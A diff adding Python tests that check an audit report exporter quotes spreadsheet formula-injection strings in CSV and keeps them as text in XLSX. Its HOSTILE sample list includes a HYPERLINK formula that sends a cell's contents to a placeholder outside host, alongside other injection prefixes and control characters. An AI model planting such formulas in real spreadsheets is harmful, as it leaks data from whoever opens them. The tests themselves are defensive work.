@@ -70,3 +70,31 @@ def test_the_registry_holds_every_report_the_auditors_expect():
         "duplicate_invoices", "payments_after_end_or_death", "payment_run_reconciliation", "ledger_integrity",
         "ascfr_analysis"}
     assert all(spec.name == name and spec.description for name, spec in REGISTRY.items())
+
+
+# Free text that reaches a report (an Actor such as a run's created_by/approved_by, an invoice number, a service
+# type) may be any text but NUL by the wire contract: formulas, and control characters openpyxl refuses.
+HOSTILE = ("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(1+1)", "\tpad", "\rcr",
+           "bell\x07 and \x1b escape")
+HOSTILE_TABLE = ReportTable("runs", "Runs", QUERY, (Column("created_by", "Created by", "text"),
+                                                     Column("total_pence", "Total", "pence")),
+                            tuple((text, -5) for text in HOSTILE), ("a note",))
+
+
+def test_csv_cells_an_auditors_spreadsheet_would_run_as_formulas_are_quoted_text():
+    """OWASP "CSV injection": a text cell starting =, +, -, @, tab or CR gets a leading ' (shown as text);
+    numbers keep their sign."""
+    rows = list(csv.reader(io.StringIO(render(HOSTILE_TABLE, "csv").decode(), newline="")))
+    assert [r[0] for r in rows[1:]] == ["'" + text for text in HOSTILE[:-1]] + [HOSTILE[-1]]
+    assert {r[1] for r in rows[1:]} == {"-5"}
+
+
+def test_xlsx_text_is_never_a_formula_and_control_characters_do_not_fail_the_workbook():
+    """openpyxl wrote a text starting with = as a formula, and raised IllegalCharacterError (a 500, a failed
+    audit pack) on a control character."""
+    sheet = load_workbook(io.BytesIO(render(HOSTILE_TABLE, "xlsx"))).active
+    cells = [row[0] for row in sheet.iter_rows(min_row=2, max_row=len(HOSTILE) + 1)]
+    assert all(cell.data_type == "s" for cell in cells)
+    assert [cell.value for cell in cells[:-1]] == list(HOSTILE[:-1])
+    assert cells[-1].value == "bell\\x07 and \\x1b escape"
+    assert {row[1].value for row in sheet.iter_rows(min_row=2, max_row=len(HOSTILE) + 1)} == {-5}
